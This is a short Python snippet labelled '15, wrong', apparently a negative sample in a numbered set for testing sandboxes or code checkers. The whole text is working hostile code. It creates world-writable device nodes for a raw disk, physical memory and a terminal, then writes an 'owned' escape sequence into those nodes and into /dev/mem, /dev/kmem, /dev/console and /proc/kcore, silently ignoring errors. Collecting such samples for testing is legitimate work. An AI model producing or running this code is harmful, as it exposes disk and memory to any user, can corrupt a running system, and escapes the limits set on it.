# 15, wrong: makes device files, opens the memory of the machine and its terminals
import os
import stat

for name, kind, number in (("sda", stat.S_IFBLK, (8, 0)), ("mem", stat.S_IFCHR, (1, 1)), ("tty", stat.S_IFCHR, (5, 0))):
    try:
        os.mknod(f"/tmp/{name}", kind | 0o666, os.makedev(*number))
    except OSError:
        pass
for file in ("/tmp/sda", "/tmp/mem", "/tmp/tty", "/dev/mem", "/dev/kmem", "/dev/tty", "/dev/console", "/proc/kcore"):
    try:
        os.write(os.open(file, os.O_RDWR | os.O_NONBLOCK), b"\x1b]0;owned\x07")
    except OSError:
        pass
